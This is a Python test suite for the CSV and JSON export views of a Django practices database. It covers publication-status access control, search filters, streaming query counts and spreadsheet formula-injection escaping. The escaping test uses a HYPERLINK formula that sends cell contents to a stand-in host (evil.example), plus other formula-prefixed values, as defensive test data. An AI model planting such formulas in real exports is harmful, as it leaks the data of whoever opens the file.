"""CSV and JSON exports of a search: streamed, published only (staff may ask for more), spreadsheet-safe."""

import csv
import io
import json

import pytest
from django.test.utils import CaptureQueriesContext

from practices.tests.search_factories import (
    HIDDEN_STATUSES,
    SEES_HIDDEN,
    Status,
    make_practice,
    one_of_each_status,
    user_for,
)
from roundtables.tests.factories import make_frameworks

pytestmark = pytest.mark.django_db


def read_csv(response):
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def read_json(response):
    assert response.streaming
    return json.loads(b"".join(response.streaming_content))["results"]


def login(client, user):
    if user is not None:
        client.force_login(user)


@pytest.mark.parametrize("role", list(SEES_HIDDEN))
def test_exports_hold_published_practices_only_whoever_asks(client, personas, role):
    practices = one_of_each_status(personas.government())
    login(client, user_for(role, personas))
    csv_rows = read_csv(client.get("/en/practices/export.csv?q=lighthouse"))
    json_rows = read_json(client.get("/en/practices/export.json?q=lighthouse"))
    published = practices[Status.PUBLISHED]
    assert [row["id"] for row in csv_rows] == [str(published.pk)]
    assert [row["id"] for row in json_rows] == [published.pk]
    # Another status: staff only (with their second factor).
    for fmt in ("csv", "json"):
        response = client.get(f"/en/practices/export.{fmt}?status=all")
        if role in ("staff", "administrator"):
            assert response.status_code == 200
        else:
            assert response.status_code == 403
            assert not response.streaming


@pytest.mark.parametrize("status", ["all", *HIDDEN_STATUSES])
def test_staff_may_export_other_statuses(client, personas, status):
    practices = one_of_each_status(personas.government())
    client.force_login(personas.staff())
    rows = read_csv(client.get(f"/en/practices/export.csv?q=lighthouse&status={status}"))
    expected = set(Status.values) if status == "all" else {status}
    assert {row["status"] for row in rows} == expected
    assert {int(row["id"]) for row in rows} == {practices[s].pk for s in expected}


def test_exports_follow_the_search_and_its_filters(client, personas):
    target, _theme = make_frameworks()
    government = personas.government()
    make_practice(government, title="Seasonal workers", countries=["MA", "ES"], targets=[target], summary="Circular.")
    make_practice(government, title="Seasonal schools", countries=["SN"], summary="Circular too.")
    make_practice(government, title="Other", countries=["MA"])
    rows = read_csv(client.get("/en/practices/export.csv?q=seasonal&country=MA"))
    assert [row["title"] for row in rows] == ["Seasonal workers"]
    row = rows[0]
    assert row["implementing countries"] == "ES; MA"  # the field keeps codes sorted
    assert row["regions"] == "africa; europe"
    assert row["SDG targets"] == "10.7"
    assert row["url"].startswith("http://testserver/en/practices/")
    assert "contact email" not in row
    data = read_json(client.get("/en/practices/export.json?region=africa&sort=title"))
    assert [item["title"] for item in data] == ["Other", "Seasonal schools", "Seasonal workers"]
    assert data[2]["countries"] == ["ES", "MA"] and data[2]["sdg_targets"] == ["10.7"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, personas):
    make_practice(
        personas.government(),
        title='=HYPERLINK("https://evil.example/?"&A1, "click")',
        summary="+1+2",
        description="-2+3",
        partners="@SUM(A1:A9)",
        results="\tTabbed",
        evidence="\rReturned",
        replicability="A plain = sign inside is fine",
        contact_name="Plain Name",
    )
    response = client.get("/en/practices/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="gfmd-practices-')
    row = read_csv(response)[0]
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1, "click")'
    assert row["summary"] == "'+1+2"
    assert row["description"] == "'-2+3"
    assert row["partners"] == "'@SUM(A1:A9)"
    assert row["results and impact"] == "'\tTabbed"
    assert row["evidence or evaluation"] == "'\rReturned"
    assert row["replicability"] == "A plain = sign inside is fine"
    assert row["contact name"] == "Plain Name"
    # JSON is data, not a spreadsheet: it keeps the text as written.
    assert read_json(client.get("/en/practices/export.json"))[0]["title"].startswith("=HYPERLINK")


@pytest.mark.parametrize("query", ["country=XX", "year=12", "sort=best", "status=nonsense"])
def test_malformed_export_parameters_are_a_400(client, personas, query):
    client.force_login(personas.staff())
    assert client.get(f"/en/practices/export.csv?{query}").status_code == 400
    response = client.get(f"/en/practices/export.json?{query}")
    assert response.status_code == 400
    assert "detail" in response.json()


def test_exports_stream_in_chunks_with_a_fixed_number_of_queries_per_chunk(client, personas, monkeypatch):
    from practices import public_views

    monkeypatch.setattr(public_views, "EXPORT_CHUNK", 10)
    target, theme = make_frameworks()
    government = personas.government()
    for number in range(25):
        make_practice(government, title=f"Practice {number}", targets=[target], themes=[theme])
    from django.db import connection

    response = client.get("/en/practices/export.csv")
    with CaptureQueriesContext(connection) as queries:
        rows = read_csv(response)
    assert len(rows) == 25
    assert all(row["SDG targets"] == "10.7" for row in rows)
    # One query for the practices (with their government, read in chunks of 10 from one cursor),
    # then three per chunk for their targets, themes and round tables: never one per practice.
    assert len(queries) == 1 + 3 * 3
